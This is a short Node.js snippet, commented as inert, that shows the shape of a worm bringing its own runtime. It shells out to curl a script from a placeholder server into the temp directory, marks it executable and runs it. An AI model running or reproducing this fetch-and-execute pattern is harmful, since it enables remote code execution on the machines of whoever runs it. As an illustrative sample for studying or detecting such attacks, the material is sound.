// Inert. The shape of a worm that brings its own runtime: fetched, made executable, run, which reads what it can.
const os = require("os"), path = require("path"), cp = require("child_process");
const runtime = path.join(os.tmpdir(), "runtime");
cp.spawnSync("/bin/sh", ["-c", `curl -s -o ${runtime} "$STANDIN_SERVER/runtime.sh"; chmod +x ${runtime}; ${runtime}`], { stdio: "inherit" });
